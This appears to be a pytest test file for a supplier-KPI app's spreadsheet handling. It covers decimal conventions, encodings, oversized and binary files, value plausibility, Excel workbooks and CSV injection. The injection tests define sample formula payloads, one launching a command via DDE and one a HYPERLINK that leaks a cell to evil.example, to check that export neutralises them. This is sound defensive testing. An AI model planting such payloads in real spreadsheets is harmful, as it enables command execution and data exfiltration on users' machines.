"""Spreadsheets in and out: every encoding, delimiter and decimal convention, hostile and oversized input,
plausible values, CSV injection, and Excel workbooks."""

from __future__ import annotations

import codecs
import csv
import io
import os
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.models.enums import PeriodKind
from app.services.measurements import CellEdit, read_csv, read_file, suggest_mapping
from app.services.partners import PartnerData
from app.services.spreadsheets import (
    AmbiguousNumber,
    Cancelled,
    SpreadsheetError,
    neutralise,
    parse_number,
    read_spreadsheet,
    unneutralise,
)
from app.services.spreadsheets.numbers import format_number

TODAY = date(2026, 11, 23)
EU_HEADER = "Lieferant;Kennzahl;Monat;Wert\n"


@pytest.fixture
def world(services):
    a = services.partners.create(PartnerData(name="Nordwerk Components GmbH"))
    return services, a


def _values(services, partner_id, code):
    return [r.value for r in services.measurements.series(partner_id, services.kpis.find(code).id)]


def _import(services, table):
    mapping = suggest_mapping(table.headers)
    mapping.update({"partner": table.headers[0], "kpi": table.headers[1], "period": table.headers[2],
                    "value": table.headers[3]})
    return services.measurements.import_csv(table, mapping, today=TODAY)


# -- decimal commas -----------------------------------------------------------------------------------------


def test_semicolon_file_with_decimal_commas_reads_the_values_people_meant(world):
    """European Excel: 0,125 is 0.125 and, in a file whose numbers use a decimal comma, 12,750 is 12.75."""
    services, a = world
    text = EU_HEADER + ("Nordwerk Components GmbH;PPM;2026-07;0,125\n"
                        "Nordwerk Components GmbH;PPM;2026-08;12,750\n"
                        "Nordwerk Components GmbH;PPM;2026-09;1,500\n"
                        "Nordwerk Components GmbH;PPM;2026-10;1.250,5\n")
    table = read_csv(text)
    assert (table.delimiter, table.decimal) == (";", ",")
    done = _import(services, table)
    assert not done.rejected
    assert _values(services, a.id, "PPM") == [0.125, 12.75, 1.5, 1250.5]


def test_a_number_that_reads_two_ways_is_asked_never_guessed(world):
    """Only '1,500'-like values: 1.5 or 1500 cannot be told from the file, so the rows are rejected with the
    question, and import once the user says which mark is the decimal one."""
    services, a = world
    text = EU_HEADER + "Nordwerk Components GmbH;PPM;2026-07;1,500\nNordwerk Components GmbH;PPM;2026-08;12,750\n"
    table = read_csv(text)
    assert table.decimal is None and table.decimal_guess.ambiguous == 2
    check = _import(services, table)
    assert not check.accepted and len(check.rejected) == 2
    assert "ambiguous number: '1,500' is 1.5 with a decimal point but 1500 with a decimal comma" \
        not in check.rejected[0].reason  # the point reading of 1,500 is 1500, said the right way round
    assert "'1,500' is 1500 with a decimal point but 1.5 with a decimal comma" in check.rejected[0].reason
    assert services.measurements.count() == 0
    chosen = read_csv(text, decimal=",")
    assert not _import(services, chosen).rejected
    assert _values(services, a.id, "PPM") == [1.5, 12.75]


def test_dates_in_another_column_never_decide_how_a_value_reads(world):
    """'08.2026' in the period column reads as a number with a decimal point; it used to make the whole file
    'decimal point', so the value 1,500 imported as 1500 without a word. Only the value column counts."""
    services, a = world
    text = EU_HEADER + "Nordwerk Components GmbH;PPM;08.2026;1,500\nNordwerk Components GmbH;PPM;09.2026;2,250\n"
    table = read_csv(text)
    check = _import(services, table)
    assert not check.accepted and all("ambiguous number" in r.reason for r in check.rejected)
    assert services.measurements.count() == 0
    with_hint = read_csv(text + "Nordwerk Components GmbH;PPM;10.2026;0,5\n")  # the values show the comma
    assert not _import(services, with_hint).rejected
    assert _values(services, a.id, "PPM") == [1.5, 2.25, 0.5]


def test_comma_separated_file_with_thousands_commas(world):
    services, a = world
    text = 'partner,kpi,period,value\nNordwerk Components GmbH,PPM,2026-07,"1,000,000"\n' \
           'Nordwerk Components GmbH,PPM,2026-08,"1,500"\nNordwerk Components GmbH,PPM,2026-09,2.5\n'
    table = read_csv(text)
    assert table.decimal == "."
    _import(services, table)
    assert _values(services, a.id, "PPM") == [1_000_000, 1500, 2.5]


DECIMAL_STYLES = [(".", ""), (".", ","), (".", " "), (".", "'"), (",", ""), (",", "."), (",", " "),
                  (",", "\u00a0"), (",", "\u202f")]


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.integers(-10**12, 10**12),
                 st.decimals(min_value=-10**9, max_value=10**9, places=3).map(float),
                 st.floats(min_value=-1e9, max_value=1e9, allow_nan=False)),
       st.sampled_from(DECIMAL_STYLES))
def test_any_convention_reads_back_the_same_value_or_is_flagged(value, style):
    decimal, group = style
    value = float(value)
    text = format_number(value, decimal, group)
    assert parse_number(text, decimal) == value
    try:
        assert parse_number(text) == value  # without knowing the convention: right, or asked
    except AmbiguousNumber as exc:
        assert value in (exc.as_dot, exc.as_comma)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.integers(-10**7, 10**7),
                          st.decimals(min_value=-10**6, max_value=10**6, places=2).map(float)),
                min_size=1, max_size=12),
       st.sampled_from(DECIMAL_STYLES))
def test_a_file_in_any_convention_reads_as_written_or_asks(values, style):
    """A column written in one convention: detection never settles on the wrong mark, so each value reads
    back as written or is flagged for the user."""
    decimal, group = style
    texts = [format_number(float(v), decimal, group) for v in values]
    table = read_csv("partner;kpi;period;value\n" + "".join(f"A;OTD;2026-01;{t}\n" for t in texts))
    for text, value in zip((r[3] for r in table.rows), values):
        try:
            assert parse_number(text, table.decimal) == float(value)
        except AmbiguousNumber:
            assert table.decimal is None


@pytest.mark.parametrize("bad", ["abc", "", "nan", "inf", "-inf", "1e999", "12..5", "1.2,3", "1,2,3", "0x10"])
def test_not_numbers_are_refused(bad):
    with pytest.raises(ValueError):
        parse_number(bad)


# -- plausible values ---------------------------------------------------------------------------------------


def test_values_must_be_finite_and_plausible_for_the_kpi_unit(world):
    """1e308 used to import and then break the scorecard report; a percentage above 100 is a typo."""
    services, a = world
    text = ("partner,kpi,period,value\n"
            "Nordwerk Components GmbH,OTD,2026-01,1e308\n"
            "Nordwerk Components GmbH,OTD,2026-02,140\n"
            "Nordwerk Components GmbH,OTD,2026-03,-3\n"
            "Nordwerk Components GmbH,OTD,2026-04,nan\n"
            "Nordwerk Components GmbH,LT,2026-05,-2\n"
            "Nordwerk Components GmbH,PPM,2026-06,1e308\n"
            "Nordwerk Components GmbH,OTD,2026-07,97.5\n"
            "Nordwerk Components GmbH,LT,2026-07,12\n")
    done = _import(services, read_csv(text))
    reasons = {r.line: r.reason for r in done.rejected}
    assert set(reasons) == {2, 3, 4, 5, 6, 7}
    assert "1e+308 is outside 0..100 for a percentage (KPI OTD)" in reasons[2]
    assert "140 is outside 0..100" in reasons[3]
    assert "-3 is outside 0..100" in reasons[4]
    assert "'nan' is not a number" in reasons[5]
    assert "-2 is outside 0..1000000 for a value in days" in reasons[6]
    assert "1e+308 is outside 0..1000000 for a value in ppm" in reasons[7]
    assert _values(services, a.id, "OTD") == [97.5] and _values(services, a.id, "LT") == [12]


def test_a_kpi_whose_thresholds_pass_100_percent_allows_more(world):
    services, a = world
    kpi = services.kpis.find("OTD")
    from dataclasses import replace
    services.kpis.update(replace(services.kpis.get(kpi.id), target=150, amber_threshold=120,
                                 red_threshold=100), note="growth target")
    done = _import(services, read_csv("partner,kpi,period,value\nNordwerk Components GmbH,OTD,2026-01,140\n"))
    assert not done.rejected and _values(services, a.id, "OTD") == [140]


# -- oversized, binary and encoded files -------------------------------------------------------------------


def test_a_10_mb_cell_is_refused_with_a_message(world, tmp_path):
    services, _ = world
    text = "partner,kpi,period,value,note\nNordwerk Components GmbH,OTD,2026-01,97," + "x" * 10_000_000 + "\n"
    with pytest.raises(ValueError, match="Line 2 has a cell longer than 10,000 characters"):
        read_csv(text)
    path = tmp_path / "huge.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(SpreadsheetError, match="longer than 10,000 characters"):
        read_file(path)


def test_a_binary_file_is_refused_with_a_message(tmp_path):
    path = tmp_path / "photo.csv"
    path.write_bytes(bytes(range(256)) * 40 + os.urandom(4000))
    with pytest.raises(SpreadsheetError, match="not a text file"):
        read_file(path)
    zipped = tmp_path / "book.csv"
    zipped.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    with pytest.raises(SpreadsheetError):
        read_file(zipped)


def test_a_file_over_the_size_limit_is_refused(tmp_path, monkeypatch):
    from app.services.spreadsheets import csv_file

    monkeypatch.setattr(csv_file, "MAX_FILE_BYTES", 1000)
    path = tmp_path / "big.csv"
    path.write_text("partner,kpi,period,value\n" + "a,b,c,1\n" * 200, encoding="utf-8")
    with pytest.raises(SpreadsheetError, match="Split it"):
        read_file(path)


@pytest.mark.parametrize("codec, bom", [("utf-16-le", codecs.BOM_UTF16_LE), ("utf-16-be", codecs.BOM_UTF16_BE),
                                        ("utf-8", codecs.BOM_UTF8), ("utf-8", b""), ("cp1252", b"")])
def test_excel_unicode_text_utf8_and_windows_files_import(world, tmp_path, codec, bom):
    """Excel's "Unicode text" is UTF-16 with tabs; before, it only said 'Choose the column that holds…'."""
    services, _ = world
    b = services.partners.create(PartnerData(name="Müller Präzision AG"))
    text = "Partner\tKPI\tPeriod\tValue\r\nMüller Präzision AG\tOTD\t2026-08\t97,5\r\n"
    path = tmp_path / "unicode.txt"
    path.write_bytes(bom + text.encode(codec))
    table = read_file(path)
    assert table.headers == ("Partner", "KPI", "Period", "Value")
    assert table.delimiter == "\t" and table.decimal == ","
    assert table.encoding in (codec, "utf-8-sig")
    done = _import(services, table)
    assert not done.rejected and _values(services, b.id, "OTD") == [97.5]


def test_text_that_does_not_decode_names_the_line(tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"partner,kpi,period,value\n" + b"a,b,c,1\n" * 20000 + b"\xe9\xff bad,b,c,1\n")
    with pytest.raises(SpreadsheetError, match="Line 20002 is not valid UTF-8"):
        read_file(path)
    assert read_file(path, encoding="cp1252").rows[-1][0] == "éÿ bad"  # the user's choice reads it


def test_delimiters_are_detected(tmp_path):
    for d in (",", ";", "\t", "|"):
        table = read_csv(f"partner{d}kpi{d}period{d}value\nA{d}OTD{d}2026-01{d}5\n")
        assert table.delimiter == d and table.rows[0] == ("A", "OTD", "2026-01", "5")
    assert read_csv("partner;kpi;period;value\nA;OTD;2026-01;5\n", delimiter=",").headers == \
        ("partner;kpi;period;value",)


def test_large_file_reports_progress_and_can_be_cancelled(tmp_path):
    path = tmp_path / "many.csv"
    path.write_text("partner,kpi,period,value\n" + "A,OTD,2026-01,5\n" * 20_000, encoding="utf-8")
    seen = []
    table = read_file(path, progress=lambda done, total: seen.append((done, total)))
    assert len(table.rows) == 20_000
    assert len(seen) > 5 and seen[-1][0] == seen[-1][1] == path.stat().st_size
    with pytest.raises(Cancelled):
        read_file(path, cancelled=lambda: True)


# -- CSV injection -------------------------------------------------------------------------------------------

HOSTILE = ["=CMD|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-cmd"]
NOTES = ["=1+2", "\t=1+1", "\r=1+1", "-2+3", "@A1"]


def _hostile_world(services):
    pids = [services.partners.create(PartnerData(name=name)).id for name in HOSTILE]
    otd = services.kpis.find("OTD")
    for pid, note in zip(pids, NOTES):
        services.measurements.save_cells(pid, PeriodKind.MONTH, [CellEdit(otd.id, date(2026, 9, 1), 95,
                                                                          note=note)])
    lt = services.kpis.find("COSTRED")
    services.measurements.save_cells(pids[0], PeriodKind.MONTH, [CellEdit(lt.id, date(2026, 9, 1), -5)])
    return pids


def test_csv_export_neutralises_formulas_but_keeps_negative_numbers(services):
    _hostile_world(services)
    out = io.StringIO()
    assert services.measurements.export_csv(out) == len(HOSTILE) + 1
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    for row in rows[1:]:
        for cell in (row[0], row[5]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {r[0] for r in rows[1:]} == {"'" + n for n in HOSTILE}
    assert {r[5] for r in rows[1:]} == {"'" + n for n in NOTES} | {""}
    assert ["-5"] == [r[4] for r in rows[1:] if r[1] == "COSTRED"]  # a number, not text: left alone
    # and it imports back as it was
    table = read_csv(out.getvalue())
    check = services.measurements.check_import(table, suggest_mapping(table.headers), today=TODAY)
    assert (len(check.accepted), check.unchanged, len(check.rejected)) == (0, len(HOSTILE) + 1, 0)


def test_xlsx_export_neutralises_formulas_keeps_numbers_and_imports_back(services, tmp_path):
    from openpyxl import load_workbook

    _hostile_world(services)
    path = tmp_path / "out.xlsx"
    result = services.measurements.export_file(path)
    assert result.rows == len(HOSTILE) + 1 and not result.skipped
    sheet = load_workbook(path).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    assert {c.value for c in cells if c.column == 1} == {"'" + n for n in HOSTILE}
    values = [c.value for c in cells if c.column == 5]
    assert -5 in values and all(isinstance(v, (int, float)) for v in values)
    table = read_file(path)
    assert table.file_kind == "xlsx"
    check = services.measurements.check_import(table, suggest_mapping(table.headers), today=TODAY)
    assert (len(check.accepted), check.unchanged, len(check.rejected)) == (0, len(HOSTILE) + 1, 0)


def test_neutralise_touches_only_formula_starts():
    assert [neutralise(t) for t in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", "'x", "'=x")] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", "'x", "''=x"]


@given(st.text(alphabet="'=+-@\t\rab1", max_size=8))
def test_neutralised_text_never_starts_a_formula_and_reads_back_as_it_was(text):
    """A note that really begins with a quote and an '=' used to come back without its quote."""
    out = neutralise(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unneutralise(out) == text


# -- Excel ---------------------------------------------------------------------------------------------------


def test_xlsx_import_with_numbers_text_numbers_dates_and_rejects(world, tmp_path):
    from datetime import datetime

    from openpyxl import Workbook

    services, a = world
    book = Workbook()
    sheet = book.active
    sheet.append(["Supplier", "Indicator", "Month", "Result", "Comment"])
    sheet.append(["Nordwerk Components GmbH", "OTD", datetime(2026, 8, 1), 97.25, "audit"])
    sheet.append(["Nordwerk Components GmbH", "PPM", "2026-08", "1,125", None])  # text that reads two ways
    sheet.append(["Nordwerk Components GmbH", "OTD", "2026-09", 1e308, None])
    sheet.append(["Nobody", "OTD", "2026-09", 90, None])
    path = tmp_path / "in.xlsx"
    book.save(path)
    table = read_spreadsheet(path)
    assert table.headers[0] == "Supplier" and table.rows[0][3] == 97.25
    mapping = suggest_mapping(table.headers)
    done = services.measurements.import_csv(table, mapping, today=TODAY)
    reasons = [r.reason for r in done.rejected]
    assert len(done.accepted) == 1 and len(reasons) == 3
    assert "ambiguous number" in reasons[0] and "implausible value" in reasons[1] and "unknown partner" in reasons[2]
    row = services.measurements.series(a.id, services.kpis.find("OTD").id)[0]
    assert (row.period_start, row.value, row.note) == (date(2026, 8, 1), 97.25, "audit")


def test_a_damaged_workbook_is_refused_with_a_message(tmp_path):
    import zipfile

    path = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    with pytest.raises(SpreadsheetError, match="cannot be read"):
        read_file(path)


# -- bad rows already stored ---------------------------------------------------------------------------------


def test_export_skips_unreadable_stored_values_and_names_them(world, tmp_path):
    """A hand edit (unknown period kind, a word as value, a BLOB as note, a garbage date) used to make every
    export fail with a traceback naming no row."""
    services, a = world
    otd = services.kpis.find("OTD")
    services.measurements.save_cells(a.id, PeriodKind.MONTH, [CellEdit(otd.id, date(2026, m, 1), 90 + m)
                                                              for m in range(1, 6)])
    ids = [r.id for r in services.measurements.series(a.id, otd.id)]
    with services.db.engine.begin() as c:
        c.exec_driver_sql("UPDATE measurements SET period_kind = 'alien' WHERE id = ?", (ids[0],))
        c.exec_driver_sql("UPDATE measurements SET value = 'lots' WHERE id = ?", (ids[1],))
        c.exec_driver_sql("UPDATE measurements SET note = x'00ff10' WHERE id = ?", (ids[2],))
        c.exec_driver_sql("UPDATE measurements SET period_start = '2026-13-45' WHERE id = ?", (ids[3],))
    skipped = []
    out = io.StringIO()
    assert services.measurements.export_csv(out, skipped=skipped) == 5
    found = {(p.table, p.row_id, p.field) for p in skipped}
    # A measurement's id is its key written out, so the damaged kind and date show in the ids named.
    assert found == {("measurements", ids[0].replace(":month:", ":alien:"), "period_kind"),
                     ("measurements", ids[1], "value"), ("measurements", ids[2], "note"),
                     ("measurements", ids[3].rsplit(":", 1)[0] + ":2026-13-45", "period_start")}
    assert "95" in out.getvalue()  # the sound row is there
    result = services.measurements.export_file(tmp_path / "out.xlsx")
    assert result.rows == 5 and len(result.skipped) == 4
